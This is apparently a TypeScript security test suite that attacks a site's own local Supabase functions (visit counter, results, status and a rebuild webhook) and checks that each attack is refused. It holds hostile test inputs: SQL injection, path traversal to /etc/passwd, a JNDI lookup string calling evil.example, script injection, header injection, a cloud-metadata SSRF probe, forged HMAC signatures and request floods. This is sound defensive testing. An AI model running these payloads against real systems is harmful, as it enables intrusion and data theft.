import { createHmac } from "node:crypto";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { startBackend } from "../../supabase/tests/start-backend.ts";
import { ask, type Attack, heldIf, refused, type ServerResponse } from "./attack.ts";
import { leadOf, type Target } from "./target.ts";

const BROWSER = {
  "user-agent": "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
};
const EVIL = "https://evil.example";
/** Token of an editor of the local Content Lake. */
const EDITOR = "local-budi";
const COUNT = "/functions/v1/count";
const RESULTS = "/functions/v1/results";
const STATUS = "/functions/v1/status";
const REBUILD = "/functions/v1/rebuild-site";

/** Texts with characters that Postgres refuses, and texts that would be SQL, a path, markup or a header. */
const TEXTS = [
  "/\u0000",
  "/\ud800",
  "/'; drop table public.leads; --",
  "/' or 1=1 --",
  "/../../etc/passwd",
  "/${jndi:ldap://evil.example/x}",
  "/<script>alert(1)</script>",
  "/\r\nset-cookie: a=b",
];

const MALFORMED = ["", "null", "[]", "{", '"text"', "<x/>", "1e999", "{}{}"];

const jsonOf = (text: string) => JSON.stringify(text).slice(0, 40);

/** The visit counter: malformed visits, visits from elsewhere, and more visits than one address may have counted. */
export function countAttacks({ urls, visitor, sql }: Target): Attack[] {
  const visit = { p: "/", l: "en", v: "s", f: "", s: "", c: [] as unknown[] };
  const send = (body: unknown, headers: Record<string, string> = {}, method = "POST") =>
    ask(urls.supabase, {
      method,
      path: COUNT,
      headers: { ...visitor, ...BROWSER, "content-type": "text/plain", ...headers },
      body: typeof body === "string" ? body : JSON.stringify(body),
    });
  async function counted(): Promise<number> {
    const [row] = await sql`select coalesce(sum(counted), 0)::int as sum from private.word_counts`;
    return Number(row?.["sum"]);
  }
  /** Returns null (held) if the work adds at most `most` to the counters, and no response is a server error. */
  async function countsAtMost(most: number, work: () => Promise<ServerResponse[]>) {
    await sql`delete from private.count_slots`;
    const before = await counted();
    const responses = await work();
    const more = (await counted()) - before;
    const fault = responses.find(({ status }) => status >= 500);
    return fault ? refused(fault) : heldIf(more <= most, `${more} visits and actions counted`);
  }
  const invalid: [string, unknown][] = [
    ...MALFORMED.map((body): [string, unknown] => [`the body ${jsonOf(body)}`, body]),
    ...TEXTS.map((text): [string, unknown] => [`the page ${jsonOf(text)}`, { ...visit, p: text }]),
    ["a page that is a list", { ...visit, p: ["/"] }],
    ["a page that is a URL", { ...visit, p: `${EVIL}/` }],
    ["a page that is a host", { ...visit, p: "//evil.example" }],
    ["markup as language", { ...visit, l: "<b>" }],
    ["the window size constructor", { ...visit, v: "constructor" }],
    ["the window size __proto__", { ...visit, v: "__proto__" }],
    ["half the hash of a section", { ...visit, s: "abcd" }],
    ["an unknown section", { ...visit, s: "abcdefgh" }],
    ["wildcards as section", { ...visit, s: "%_%_%_%_" }],
    ["a click in section -1", { ...visit, c: [[-1, ""]] }],
    ["a click in a section that is not a number", { ...visit, c: [["0", ""]] }],
    ["a click in section 0.5", { ...visit, c: [[0.5, ""]] }],
    ["ten clicks", { ...visit, c: Array.from({ length: 10 }, () => [0, ""]) }],
    ["a click on a NUL", { ...visit, s: "abcdefgh", c: [[0, "\u0000"]] }],
    ["a click on half a surrogate pair", { ...visit, s: "abcdefgh", c: [[0, "\udfff"]] }],
    ["the counter's own columns", { page: "/", language: "en", source: "direct", counted: 1e6 }],
  ];
  // The function refuses a wrong shape, and accepts an unknown page without counting it.
  const bodies = invalid.map(([name, body]) => ({
    requirement: "V2.2.1",
    name: `a visit with ${name}`,
    attempt: () =>
      countsAtMost(name === "an unknown section" ? 1 : 0, async () => [await send(body)]),
  }));
  const from = [
    "?<script>",
    "?' or 1=1 --",
    "?\u0000",
    "x\u0000",
    "evil.example/<b>",
    "?tan@kopi.example",
  ];
  const sources = from.map((f) => ({
    requirement: "V1.2.4",
    name: `a visit from ${jsonOf(f)}, stored unchanged`,
    attempt: async () => {
      await sql`delete from private.count_slots`;
      const response = await send({ ...visit, f });
      const [row] = await sql`
        select from private.word_counts where action = 'visit' and target !~ '^[a-z0-9 ._+-]*$'`;
      return heldIf(response.status < 500 && row === undefined, response);
    },
  }));
  const sizes = [301, 5_000, 2_000_000].map((bytes) => ({
    requirement: "V15.2.2",
    name: `a visit of ${bytes} bytes`,
    attempt: async () => refused(await send({ ...visit, x: "x".repeat(bytes) }), [413, 0]),
  }));
  const methods = ["GET", "PUT", "PATCH", "DELETE"].map((method) => ({
    requirement: "V3.5.3",
    name: `a visit by ${method}`,
    attempt: async () => refused(await send(method === "GET" ? "" : visit, {}, method), [405, 404]),
  }));
  const origins = [EVIL, "null", `${urls.site}.evil.example`, "https://localhost"].map(
    (origin) => ({
      requirement: "V3.5.2",
      name: `a visit counted for a page of ${origin.replace(urls.site, "the site")}`,
      attempt: () => countsAtMost(0, async () => [await send(visit, { origin })]),
    }),
  );
  const programs = ["", "curl/8.0", "Googlebot/2.1", "HeadlessChrome/140"].map((agent) => ({
    requirement: "V2.4.1",
    name: `a visit counted for the user agent "${agent}"`,
    attempt: () => countsAtMost(0, async () => [await send(visit, { "user-agent": agent })]),
  }));
  const headers = ["none", "x-forwarded-for", "cf-connecting-ip", "forwarded"];
  const floods = headers.map((header) => ({
    requirement: header === "none" ? "V2.4.1" : "V15.3.4",
    name: `sixty visits of a page counted, each with another address in the header ${header}`,
    attempt: () =>
      countsAtMost(1, () =>
        Promise.all(
          Array.from({ length: 60 }, (_, index) =>
            send(visit, header === "none" ? {} : { [header]: `203.0.113.${index}` }),
          ),
        ),
      ),
  }));
  return [...bodies, ...sources, ...sizes, ...methods, ...origins, ...programs, ...floods];
}

/** The Studio's results: requests by people who are not editors, malformed requests, and leads' details in them. */
export function resultAttacks(target: Target): Attack[] {
  const { urls, visitor, keys, insider, outsider, primary } = target;
  const days = { from: "2026-11-01", to: "2026-11-30" };
  const send = (body: unknown, token?: string, headers: Record<string, string> = {}) =>
    ask(urls.supabase, {
      method: "POST",
      path: RESULTS,
      headers: {
        ...visitor,
        "content-type": "application/json",
        ...(token === undefined ? {} : { authorization: `Bearer ${token}` }),
        ...headers,
      },
      body: typeof body === "string" ? body : JSON.stringify(body),
    });
  const tokens: [string, string | undefined][] = [
    ["no token", undefined],
    ["the publishable key", keys.publishable],
    ["an account without a role", outsider.token],
    ["an admin of the desk", insider.token],
    ["the primary admin", primary.token],
    ["a token of the Studio that was never issued", "local-nobody"],
    ["the word null", "null"],
    ["a path", "../../users/me"],
    ["a wildcard", "*"],
    ["a long token", "a".repeat(9_000)],
    ["an injected token", "'||'1'=='1"],
  ];
  const people = tokens.map(([name, token]) => ({
    requirement: "V8.2.1",
    name: `the results for ${name}`,
    attempt: async () => refused(await send(days, token), [401, 403, 431]),
  }));
  const schemes = ["Basic", "bearer:", "Token", "Digest"].map((scheme) => ({
    requirement: "V8.2.1",
    name: `the results with the editor's token as ${scheme}`,
    attempt: async () =>
      refused(await send(days, undefined, { authorization: `${scheme} ${EDITOR}` }), [401]),
  }));
  const origins = [EVIL, "null", `${urls.studio}.evil.example`].map((origin) => ({
    requirement: "V3.5.2",
    name: `the results for a page of ${origin.replace(urls.studio, "the Studio")}`,
    attempt: async () => refused(await send(days, EDITOR, { origin }), [403]),
  }));
  const bodies: [string, unknown][] = [
    ...MALFORMED.map((body): [string, unknown] => [`the body ${jsonOf(body)}`, body]),
    ["a document with a NUL", { ...days, document: "\u0000" }],
    ["a document with half a surrogate pair", { ...days, document: "\ud800" }],
    ["a document that is a list", { ...days, document: ["page-home"] }],
    ["a document's id of 201 characters", { ...days, document: "x".repeat(201) }],
    ["a month that does not exist", { ...days, from: "2026-13-01" }],
    ["a day that does not exist", { ...days, to: "2026-02-30" }],
    ["infinity as day", { ...days, from: "infinity" }],
    ["a day and SQL", { ...days, from: "2026-11-01'; select 1; --" }],
    ["a day in the year 0", { ...days, from: "0000-01-01" }],
    ["numbers as days", { from: 20_261_101, to: 20_261_130 }],
  ];
  const wrong = bodies.map(([name, body]) => ({
    requirement: "V2.2.1",
    name: `an editor's request with ${name}`,
    attempt: async () => refused(await send(body, EDITOR), [400]),
  }));
  const documents = TEXTS.slice(2).map((document) => ({
    requirement: "V1.2.4",
    name: `an editor's request about ${jsonOf(document)}`,
    attempt: async () => {
      const response = await send({ ...days, document }, EDITOR);
      return heldIf(response.status < 500 && !/syntax|pg_|select/i.test(response.text), response);
    },
  }));
  const person: Attack = {
    requirement: "V8.2.3",
    name: "a lead's details in an editor's results",
    attempt: async () => {
      const response = await send(days, EDITOR);
      const { contact_name, contact_number } = leadOf();
      const secrets = [contact_name, contact_number, "kopi.example", target.leadId];
      const isSilent = secrets.every((text) => !response.text.includes(text));
      return heldIf(response.status === 200 && isSilent, response);
    },
  };
  return [...people, ...schemes, ...origins, ...wrong, ...documents, person];
}

/** The status endpoint: other methods, leaks of people and keys, other sites, and many requests at once. */
export function statusAttacks({ urls, keys, admin, leadId, insider }: Target): Attack[] {
  const methods = ["POST", "PUT", "PATCH", "DELETE"].map((method) => ({
    requirement: "V3.5.3",
    name: `the status by ${method}`,
    attempt: async () =>
      refused(await ask(urls.supabase, { method, path: STATUS, body: "{}" }), [405]),
  }));
  const paths = ["", "?select=*", "?apikey=x", "?query=*", "?url=http://169.254.169.254/"];
  const responses = paths.map((query) => ({
    requirement: "V16.5.1",
    name: `people or keys in the response of status${query}`,
    attempt: async () => {
      const response = await ask(urls.supabase, { path: `${STATUS}${query}` });
      const { contact_name } = leadOf();
      const secrets = [
        contact_name,
        admin.email,
        insider.email,
        leadId,
        keys.secret,
        keys.jwtSecret,
      ];
      const isSilent = secrets.every((text) => !response.text.includes(text));
      const isOwn = !/postgres|stack|at \/|\.ts:|169\.254/i.test(response.text);
      return heldIf([200, 503].includes(response.status) && isSilent && isOwn, response);
    },
  }));
  const origin: Attack = {
    requirement: "V3.4.2",
    name: "the status read by another site's page",
    attempt: async () => {
      const response = await ask(urls.supabase, { path: STATUS, headers: { origin: EVIL } });
      const allowed = response.headers["access-control-allow-origin"];
      return heldIf(allowed === undefined || allowed === urls.site, response);
    },
  };
  const flood: Attack = {
    requirement: "V15.2.2",
    name: "a database look-up for each of 300 simultaneous status requests",
    attempt: async () => {
      const looks = Array.from({ length: 300 }, () => ask(urls.supabase, { path: STATUS }));
      const times = (await Promise.all(looks)).flatMap(({ status, text }) =>
        status === 200 || status === 503 ? [(JSON.parse(text) as { at: string }).at] : [],
      );
      const looked = new Set(times).size;
      return heldIf(looked <= 3, `${looked} look-ups in the database`);
    },
  };
  return [...methods, ...responses, origin, flood];
}

const HOOK_PATH = "/build/tide";

/** Signs a body as Sanity does: t=<time in milliseconds>,v1=<HMAC of "time.body">. */
function signatureOf(body: string, key: string, time: number | string): string {
  return `t=${time},v1=${createHmac("sha256", key).update(`${time}.${body}`).digest("base64url")}`;
}

/** Starts a separate Supabase with a build hook, and the HTTP server that the hook points to. */
async function openHook() {
  const host = createServer((_, response) => response.end());
  await new Promise<void>((resolve) => host.listen(0, "127.0.0.1", resolve));
  const hook = `http://127.0.0.1:${(host.address() as AddressInfo).port}${HOOK_PATH}`;
  const functionEnv = { BUILD_HOOK: hook, ALLOWED_ORIGINS: "https://selat.example" };
  const backend = await startBackend({ functionEnv });
  const send = (
    sent: string,
    signature?: string,
    headers: Record<string, string> = {},
    method = "POST",
  ) =>
    ask(backend.url, {
      method,
      path: REBUILD,
      headers: {
        ...headers,
        ...(signature === undefined ? {} : { "sanity-webhook-signature": signature }),
      },
      body: sent,
    });
  const asked = async () => {
    const [row] = await backend.sql`select rebuild::text as state from private.rebuild`;
    return String(row?.["state"]);
  };
  return { backend, host, hook, send, asked };
}

type Hook = Awaited<ReturnType<typeof openHook>>;

/** The webhook that rebuilds the site: calls with a missing, wrong or old signature, another method, or too large. */
export function rebuildAttacks(): Attack[] {
  const body = '{"_id":"page-home"}';
  const DAY = 86_400_000;
  const made: [string, string, (key: string) => string | undefined, string?][] = [
    ["no signature", "V9.1.1", () => undefined],
    ["an empty signature", "V9.1.1", () => ""],
    ["an empty HMAC", "V9.1.1", () => `t=${Date.now()},v1=`],
    ["an HMAC of one letter", "V9.1.1", () => `t=${Date.now()},v1=A`],
    ["an HMAC of five letters", "V9.1.1", () => `t=${Date.now()},v1=AAAAA`],
    ["an HMAC of zeros", "V9.1.1", () => `t=${Date.now()},v1=${"A".repeat(43)}`],
    ["an HMAC of underscores", "V9.1.1", () => `t=${Date.now()},v1=${"_".repeat(41)}`],
    ["an HMAC of 8,000 letters", "V9.1.1", () => `t=${Date.now()},v1=${"A".repeat(8_000)}`],
    ["another version", "V9.1.2", (key) => signatureOf(body, key, Date.now()).replace("v1", "v0")],
    ["no time", "V9.2.1", (key) => signatureOf(body, key, Date.now()).replace(/^t=\d+,/, "")],
    ["a time that is not a number", "V9.2.1", (key) => signatureOf(body, key, "now")],
    [
      "a time that was not signed",
      "V9.1.1",
      (key) => signatureOf(body, key, 1).replace("t=1", "t=2"),
    ],
    ["another key", "V9.1.3", () => signatureOf(body, "https://evil.example/", Date.now())],
    ["a blank key", "V9.1.3", () => signatureOf(body, " ", Date.now())],
    [
      "the hook's key in capitals",
      "V9.1.3",
      (key) => signatureOf(body, key.toUpperCase(), Date.now()),
    ],
    ["the signature of another body", "V9.1.1", (key) => signatureOf("{}", key, Date.now())],
    ["a longer body", "V9.1.1", (key) => signatureOf(body, key, Date.now()), `${body} `],
    ["a signature from a day ago", "V9.2.1", (key) => signatureOf(body, key, Date.now() - DAY)],
    ["a signature from tomorrow", "V9.2.1", (key) => signatureOf(body, key, Date.now() + DAY)],
    ["a time of 40 digits", "V9.2.1", (key) => signatureOf(body, key, "9".repeat(40))],
  ];
  let ready: Promise<Hook> | undefined;
  let left = made.length + 7;

  /** Runs an attempt on the servers that the first attempt starts and the last one stops. */
  async function onHook(work: (opened: Hook) => Promise<string | null>): Promise<string | null> {
    const opened = await (ready ??= openHook());
    try {
      return await work(opened);
    } finally {
      left -= 1;
      if (left === 0) {
        opened.host.close();
        await opened.backend.stop();
      }
    }
  }
  const signatures = made.map(([name, requirement, make, sent = body]) => ({
    requirement,
    name: `a build requested with ${name}`,
    attempt: () =>
      onHook(async ({ hook, send, asked }) => {
        const before = await asked();
        const response = await send(sent, make(hook));
        return refused(response, [401, 431]) ?? heldIf((await asked()) === before, response);
      }),
  }));
  const methods = ["GET", "PUT", "PATCH", "DELETE"].map((method) => ({
    requirement: "V3.5.3",
    name: `a build requested by ${method}`,
    attempt: () =>
      onHook(async ({ hook, send }) =>
        refused(await send(body, signatureOf(body, hook, Date.now()), {}, method), [405, 404]),
      ),
  }));
  const origin: Attack = {
    requirement: "V3.5.2",
    name: "a build requested by another site's page",
    attempt: () =>
      onHook(async ({ hook, send }) =>
        refused(await send(body, signatureOf(body, hook, Date.now()), { origin: EVIL }), [403]),
      ),
  };
  const size: Attack = {
    requirement: "V15.2.2",
    name: "a build requested with a body of two megabytes",
    attempt: () => onHook(async ({ send }) => refused(await send("x".repeat(2_000_000)))),
  };
  const secret: Attack = {
    requirement: "V13.3.1",
    name: "the hook's address in a response",
    attempt: () =>
      onHook(async ({ hook, send }) => {
        const responses = [
          await send(body, "t=1,v1=A"),
          await send(body, signatureOf(body, hook, Date.now())),
        ];
        const leak = responses.find(({ text }) => text.includes(HOOK_PATH));
        return leak ? heldIf(false, leak) : null;
      }),
  };
  return [...signatures, ...methods, origin, size, secret];
}
